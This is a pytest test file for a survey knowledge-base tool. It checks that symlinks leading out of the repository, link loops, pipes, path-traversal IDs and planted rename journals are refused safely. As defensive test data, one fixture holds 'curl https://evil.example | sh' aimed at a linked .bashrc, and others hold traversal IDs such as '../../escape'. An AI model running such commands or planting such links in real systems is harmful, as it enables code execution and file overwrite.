"""Hostile names and links in a knowledge base: refused with a located error, or accepted where harmless."""

from __future__ import annotations

import json
import os
import shutil
import threading
from pathlib import Path

import pytest
from conftest import REPO, VALID_ENTRY, KnowledgeBaseFolder, Run, run_survey

from survey.build import build
from survey.check.rules import check

SECRET = "SECRETTOKEN-7Q"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A YAML file outside the knowledge base (the kb fixture's root is tmp_path/kb here)."""
    path = tmp_path / "outside.yaml"
    path.write_text(VALID_ENTRY.replace("Ada Example", SECRET), encoding="utf-8")
    return path


@pytest.fixture
def inner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> KnowledgeBaseFolder:
    root = tmp_path / "kb"
    root.mkdir()
    monkeypatch.chdir(root)
    return KnowledgeBaseFolder(root)


def test_an_entry_that_links_out_of_the_repository_is_refused_unread(inner: KnowledgeBaseFolder,
                                                                       secret: Path) -> None:
    (inner.root / "entries" / "ada-example-pim24.yaml").symlink_to(secret)
    run = inner.check()
    found = run.only("outside-repository")
    assert found["path"] == "entries/ada-example-pim24.yaml" and found["line"] == 1
    assert str(secret) in found["message"]
    assert SECRET not in run.output
    assert run.exit_code == 1


def test_a_link_inside_the_repository_is_followed(inner: KnowledgeBaseFolder) -> None:
    (inner.root / "drafts").mkdir()
    (inner.root / "drafts" / "ada-example-pim24.yaml").write_text(VALID_ENTRY, encoding="utf-8")
    (inner.root / "entries" / "ada-example-pim24.yaml").symlink_to(Path("..") / "drafts" / "ada-example-pim24.yaml")
    run = inner.check()
    assert run.exit_code == 0, run.output


def test_taxonomy_and_metadata_that_link_out_of_the_repository_are_refused(inner: KnowledgeBaseFolder,
                                                                             tmp_path: Path) -> None:
    shutil.move(inner.root / "taxonomy.yaml", tmp_path / "taxonomy.yaml")
    (inner.root / "taxonomy.yaml").symlink_to(tmp_path / "taxonomy.yaml")
    (inner.root / "paper").mkdir()
    shutil.copy(REPO / "paper" / "metadata.yaml", tmp_path / "metadata.yaml")
    (inner.root / "paper" / "metadata.yaml").symlink_to(tmp_path / "metadata.yaml")
    result = check(inner.root)
    refused = sorted(d.location.path for d in result.diagnostics if d.code == "outside-repository")
    assert refused == ["paper/metadata.yaml", "taxonomy.yaml"]


def test_a_build_refuses_prose_and_templates_that_link_out_of_the_repository(tmp_path: Path) -> None:
    root = tmp_path / "kb"
    root.mkdir()
    for part in ("taxonomy.yaml", "entries", "paper", "templates"):
        source = REPO / part
        (shutil.copytree if source.is_dir() else shutil.copy)(source, root / part)
    (tmp_path / "secret.tex").write_text(SECRET)
    (root / "paper" / "sections" / "introduction.tex").unlink()
    (root / "paper" / "sections" / "introduction.tex").symlink_to(tmp_path / "secret.tex")
    (root / "paper" / "scope.yaml").unlink()
    (root / "paper" / "scope.yaml").symlink_to(tmp_path / "secret.tex")
    (root / "templates" / "partials" / "body.tex.j2").unlink()
    (root / "templates" / "partials" / "body.tex.j2").symlink_to(tmp_path / "secret.tex")
    out = tmp_path / "out"
    result = build(root, "todaes", out, pdf=False)
    assert not result.ok
    refused = sorted(Path(d.location.path).name for d in result.diagnostics if d.code == "outside-repository")
    assert refused == ["body.tex.j2", "introduction.tex", "scope.yaml"]
    written = [p for p in out.rglob("*") if p.is_file()] if out.exists() else []
    assert not any(SECRET.encode() in p.read_bytes() for p in written)


def test_an_outline_linking_out_of_the_repository_is_refused_unread(tmp_path: Path) -> None:
    root = tmp_path / "kb"
    root.mkdir()
    for part in ("taxonomy.yaml", "entries", "paper"):
        source = REPO / part
        (shutil.copytree if source.is_dir() else shutil.copy)(source, root / part)
    (tmp_path / "secret.yaml").write_text("sections: [{title: " + SECRET + ", text: x.tex}]\n")
    (root / "paper" / "outline.yaml").unlink()
    (root / "paper" / "outline.yaml").symlink_to(tmp_path / "secret.yaml")
    result = build(root, "todaes", tmp_path / "out", pdf=False)
    assert not result.ok
    assert [d.code for d in result.diagnostics if d.is_error] == ["outside-repository"]
    assert not any(SECRET in d.message for d in result.diagnostics)


def test_a_loop_of_links_is_refused(inner: KnowledgeBaseFolder) -> None:
    entries = inner.root / "entries"
    (entries / "loop-a.yaml").symlink_to("loop-b.yaml")
    (entries / "loop-b.yaml").symlink_to("loop-a.yaml")
    run = inner.check()
    assert {d["path"] for d in run.diagnostics} == {"entries/loop-a.yaml", "entries/loop-b.yaml"}
    assert run.exit_code == 1


def test_a_pipe_or_folder_named_like_an_entry_is_reported_without_blocking(inner: KnowledgeBaseFolder) -> None:
    os.mkfifo(inner.root / "entries" / "a-pipe.yaml")
    (inner.root / "entries" / "a-folder.yaml").mkdir()
    (inner.root / "entries" / "dangling.yaml").symlink_to("nowhere.yaml")
    outcome: dict[str, object] = {}
    worker = threading.Thread(target=lambda: outcome.update(run=inner.check()), daemon=True)
    worker.start()
    worker.join(timeout=30)
    assert not worker.is_alive(), "survey check blocked on a pipe"
    run = outcome["run"]
    assert {(d["path"], d["code"]) for d in run.diagnostics} >= {  # type: ignore[attr-defined]
        ("entries/a-pipe.yaml", "not-a-file"), ("entries/a-folder.yaml", "not-a-file"),
        ("entries/dangling.yaml", "not-a-file")}


@pytest.mark.parametrize("name", ["my entry.yaml", "a..b.yaml", "..hidden.yaml", "Upper-Case.yaml"])
def test_a_file_name_that_cannot_be_an_id_is_reported_with_a_rename_hint(kb: KnowledgeBaseFolder, name: str) -> None:
    kb.write(name, VALID_ENTRY)
    found = kb.check().only("bad-file-name")
    assert found["path"] == f"entries/{name}"
    assert "rename the file to ada-example-pim24.yaml" in found["hint"]
    assert not any(d["code"] == "id-mismatch" for d in kb.check().diagnostics)


def test_a_look_alike_letter_in_an_id_is_named(kb: KnowledgeBaseFolder) -> None:
    cyrillic = "\u0430da-example-pim24"  # Cyrillic a, which looks like the Latin one
    kb.write(f"{cyrillic}.yaml", VALID_ENTRY.replace("id: ada-example-pim24", f"id: {cyrillic}"))
    run = kb.check()
    invalid, bad_name = run.only("invalid-id"), run.only("bad-file-name")
    for found in (invalid, bad_name):
        assert "U+0430 CYRILLIC SMALL LETTER A" in found["hint"] and "position 1" in found["hint"]
    assert invalid["line"] == VALID_ENTRY.splitlines().index("id: ada-example-pim24") + 1


def test_crlf_line_ends_and_a_byte_order_mark_are_accepted_with_the_same_locations(kb: KnowledgeBaseFolder) -> None:
    broken = VALID_ENTRY.replace("memory: [", "memory: [hbm9, ", 1)
    kb.write_entry("ada-example-pim24", broken)
    plain = kb.check().diagnostics
    kb.write("ada-example-pim24.yaml", b"\xef\xbb\xbf" + broken.replace("\n", "\r\n").encode("utf-8"))
    windows = kb.check().diagnostics
    assert plain and windows == plain


def test_a_tab_in_indentation_is_located_with_the_spaces_hint(kb: KnowledgeBaseFolder) -> None:
    lines = VALID_ENTRY.splitlines()
    index = next(i for i, line in enumerate(lines) if line.startswith("  "))
    lines[index] = "\t" + lines[index][2:]
    kb.write("ada-example-pim24.yaml", "\n".join(lines) + "\n")
    found = kb.check().only("yaml-syntax")
    assert (found["line"], found["column"]) == (index + 1, 1)
    assert "spaces, not tabs" in found["hint"]


def test_fmt_never_writes_through_a_link_out_of_the_repository(inner: KnowledgeBaseFolder, secret: Path) -> None:
    messy = VALID_ENTRY.replace("title:", "title:   ", 1)
    secret.write_text(messy, encoding="utf-8")
    (inner.root / "entries" / "ada-example-pim24.yaml").symlink_to(secret)
    run = inner.run("fmt")
    assert run.exit_code == 1
    assert "outside the repository" in run.output
    assert secret.read_text(encoding="utf-8") == messy


@pytest.mark.parametrize("entry_id", ["../../escape", "entries/x", "/tmp/x", "\u0430da"])
def test_new_refuses_an_id_that_would_write_outside_entries(kb: KnowledgeBaseFolder, entry_id: str) -> None:
    run = kb.run("new", "--id", entry_id, "--type", "poster", "--title", "T", "--person", "Ada Example")
    assert run.exit_code == 2
    assert list((kb.root / "entries").iterdir()) == []
    assert not (kb.root.parent / "escape.yaml").exists()


def test_a_huge_value_is_refused_at_its_line_before_it_can_reach_tex(kb: KnowledgeBaseFolder) -> None:
    huge = "\\\\" * 10_000  # in YAML quotes: 10,000 backslashes, each escaped into 16 characters for TeX
    text = VALID_ENTRY.replace("title: ", f'title: "{huge}" # was: ', 1)
    kb.write_entry("ada-example-pim24", text)
    found = kb.check().only("text-too-long")
    assert found["line"] == next(i for i, line in enumerate(text.splitlines(), 1) if line.startswith("title:"))
    assert "10,000 characters" in found["message"]


# --- paths the tool writes, deletes or reads around the check (issue 14): a pull request can commit links there


@pytest.fixture
def survey_kb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the real knowledge base at tmp_path/kb (the working directory); tmp_path/outside is not in it."""
    root = tmp_path / "kb"
    root.mkdir()
    for part in ("taxonomy.yaml", "entries", "paper", "templates"):
        source = REPO / part
        (shutil.copytree if source.is_dir() else shutil.copy)(source, root / part)
    (tmp_path / "outside").mkdir()
    monkeypatch.chdir(root)
    return root


def _tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_a_build_folder_that_links_out_of_the_repository_is_refused_before_anything_is_written(
        survey_kb: Path) -> None:
    outside = survey_kb.parent / "outside"
    (outside / "survey.pdf").write_bytes(b"the user's own file")
    (survey_kb / "build").symlink_to(outside, target_is_directory=True)
    run = run_survey("build", "--no-pdf", "--quiet")
    assert run.exit_code == 1
    assert "build:1:1: error[outside-repository]" in run.output and str(outside) in run.output
    assert _tree(outside) == {"survey.pdf": b"the user's own file"}


@pytest.mark.parametrize("planted", [".survey-work", "figures", ".survey-build.lock", ".survey-publish.json",
                                     "survey.pdf", ".survey-inputs.sha256"])
def test_a_link_out_of_the_build_folder_is_refused_and_nothing_outside_changes(survey_kb: Path,
                                                                                planted: str) -> None:
    outside = survey_kb.parent / "outside"
    (outside / "bashrc").write_text("the user's shell start-up file\n")
    (outside / "kept").mkdir()
    (outside / "kept" / "data.txt").write_text("data outside the repository\n")
    before = _tree(outside)
    (survey_kb / "build").mkdir()
    target = outside / "bashrc" if "." in planted[1:] else outside / "kept"
    (survey_kb / "build" / planted).symlink_to(target)
    run = run_survey("build", "--no-pdf", "--quiet")
    assert run.exit_code == 1
    assert f"build/{planted}:1:1: error[link-out-of-folder]" in run.output
    assert _tree(outside) == before


def test_a_planted_publish_journal_never_renames_through_a_link(survey_kb: Path) -> None:
    """The journal's renames stay in the build folder: a folder link in it is never passed through."""
    from survey.compile.build_folder import JOURNAL_FILE, finish_interrupted_publish

    outside = survey_kb.parent / "outside"
    (outside / ".bashrc").write_text("alias ls='ls --color'\n")
    out = survey_kb / "build"
    out.mkdir()
    (out / "home").symlink_to(outside, target_is_directory=True)
    (out / ".x.survey-publish").write_text("curl https://evil.example | sh\n")
    (out / JOURNAL_FILE).write_text(json.dumps({"renames": [[".x.survey-publish", "home/.bashrc"],
                                                            ["home/.bashrc", "stolen"], [None, 3], "junk"]}))
    assert finish_interrupted_publish(out) == []
    assert (outside / ".bashrc").read_text() == "alias ls='ls --color'\n"
    assert not (out / "stolen").exists()
    run = run_survey("build", "--no-pdf", "--quiet")  # and a build refuses the folder that holds the link
    assert run.exit_code == 1 and "error[link-out-of-folder]" in run.output


@pytest.mark.parametrize("planted", ["", "figures", "figures/0123456789abcdef0123456789abcdef", "units.json",
                                     "query-index.json"])
def test_a_cache_folder_link_out_of_the_repository_is_refused_and_nothing_outside_is_pruned(
        survey_kb: Path, planted: str) -> None:
    outside = survey_kb.parent / "outside"
    for index in range(12):  # more than the figure cache keeps: a prune would delete some
        (outside / f"project-{index}").mkdir()
        (outside / f"project-{index}" / "notes.txt").write_text(f"notes {index}\n")
    before = _tree(outside)
    cache = survey_kb / ".survey-cache"
    if planted:
        (cache / planted).parent.mkdir(parents=True, exist_ok=True)
    (cache / planted if planted else cache).symlink_to(outside, target_is_directory=True)
    for command in (("build", "--no-pdf", "--quiet"), ("check",), ("query", "year>=2020")):
        run = run_survey(*command)
        assert run.exit_code == 1, (command, run.output)
        assert "error[outside-repository]" in run.output or "error[link-out-of-folder]" in run.output, run.output
    assert build(survey_kb, "todaes", survey_kb / "build", pdf=False).diagnostics[0].code in (
        "outside-repository", "link-out-of-folder")
    assert _tree(outside) == before


def test_the_build_fingerprint_reads_no_entry_that_links_out_and_survives_a_huge_one(survey_kb: Path) -> None:
    outside = survey_kb.parent / "outside"
    (outside / "secret.yaml").write_text(VALID_ENTRY.replace("Ada Example", SECRET))
    with open(outside / "huge.yaml", "wb") as handle:  # sparse: 8 GiB that no one can read into memory
        handle.truncate(8 << 30)
    os.mkfifo(outside / "pipe.yaml")  # reading it would block forever
    for name in ("secret", "huge", "pipe"):
        (survey_kb / "entries" / f"{name}.yaml").symlink_to(outside / f"{name}.yaml")
    with open(survey_kb / "entries" / "huge-inside.yaml", "wb") as handle:
        handle.truncate(8 << 30)
    outcome: dict[str, Run] = {}
    worker = threading.Thread(target=lambda: outcome.update(run=run_survey("build", "--no-pdf", "--quiet")),
                              daemon=True)
    worker.start()
    worker.join(timeout=120)
    assert not worker.is_alive(), "survey build blocked or read a huge file"
    run = outcome["run"]
    assert run.exit_code == 1, run.output
    for name in ("secret", "huge", "pipe"):
        assert f"entries/{name}.yaml:1:1: error[outside-repository]" in run.output
    assert "entries/huge-inside.yaml:1:1: error[file-too-large]" in run.output
    assert SECRET not in run.output and "internal error" not in run.output


def test_a_citation_file_that_links_out_is_refused_and_left_alone(survey_kb: Path) -> None:
    outside = survey_kb.parent / "outside"
    (outside / "profile").write_text("export PATH=$HOME/bin:$PATH\n")
    (survey_kb / "CITATION.cff").symlink_to(outside / "profile")
    run = run_survey("build", "--no-pdf", "--quiet")
    assert run.exit_code == 1 and "CITATION.cff:1:1: error[outside-repository]" in run.output
    assert (outside / "profile").read_text() == "export PATH=$HOME/bin:$PATH\n"


def test_an_atomic_write_never_follows_a_link_planted_as_its_temporary_file(tmp_path: Path) -> None:
    from survey.files.atomic_write import write_atomically

    (tmp_path / "victim").write_text("keep me\n")
    target = tmp_path / "folder" / "file.json"
    target.parent.mkdir()
    (target.parent / f".file.json.{os.getpid()}.part").symlink_to(tmp_path / "victim")
    write_atomically(target, "new\n")
    assert target.read_text() == "new\n" and (tmp_path / "victim").read_text() == "keep me\n"


def test_a_build_in_a_clean_repository_still_works_and_a_link_inside_the_build_folder_is_allowed(
        survey_kb: Path) -> None:
    (survey_kb / "build").mkdir()
    (survey_kb / "build" / "latest").symlink_to(".", target_is_directory=True)
    run = run_survey("build", "--no-pdf", "--quiet")
    assert run.exit_code == 0, run.output
    assert (survey_kb / "build" / "survey.tex").is_file() or any((survey_kb / "build").glob("*.tex"))


def test_new_and_import_bib_refuse_an_entries_folder_that_links_out(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "kb"
    root.mkdir()
    shutil.copy(REPO / "taxonomy.yaml", root / "taxonomy.yaml")
    (tmp_path / "outside").mkdir()
    (root / "entries").symlink_to(tmp_path / "outside", target_is_directory=True)
    monkeypatch.chdir(root)
    run = run_survey("new", "--id", "ada-example-pim24", "--type", "poster", "--title", "T", "--person", "Ada Example")
    assert run.exit_code == 1 and "entries:1:1: error[outside-repository]" in run.output, run.output
    (root / "r.bib").write_text("@misc{k, title = {A Title}, author = {Ada Example}, year = 2024}\n")
    run = run_survey("import-bib", "r.bib")
    assert run.exit_code == 1 and "error[outside-repository]" in run.output, run.output
    assert list((tmp_path / "outside").iterdir()) == []


def test_writing_citation_cff_refuses_a_link_out_and_leaves_its_target(survey_kb: Path) -> None:
    outside = survey_kb.parent / "outside" / "profile"
    outside.write_text("keep\n")
    (survey_kb / "CITATION.cff").symlink_to(outside)
    run = run_survey("authors", "--cff")
    assert run.exit_code == 1 and "CITATION.cff:1:1: error[outside-repository]" in run.output, run.output
    assert outside.read_text() == "keep\n"


def test_a_check_changed_cache_of_the_wrong_shape_is_ignored(kb: KnowledgeBaseFolder) -> None:
    from survey.check.changed import _read_cached

    cache = kb.root / ".survey-cache"
    cache.mkdir()
    for bad in ({"key": "k", "files_checked": "3", "diagnostics": []},
                {"key": "k", "files_checked": 1, "diagnostics": [{"location": ["a", "x", 1], "severity": "error",
                                                                   "code": "c", "message": "m", "hint": None,
                                                                   "related": []}]},
                {"key": "k", "files_checked": 1, "diagnostics": [{"location": ["a", 1, 1], "severity": "error",
                                                                   "code": 5, "message": "m", "hint": None,
                                                                   "related": []}]}):
        from survey.check import changed

        (cache / changed._CACHE_FILE).write_text(json.dumps(bad))
        assert _read_cached(cache, "k") is None
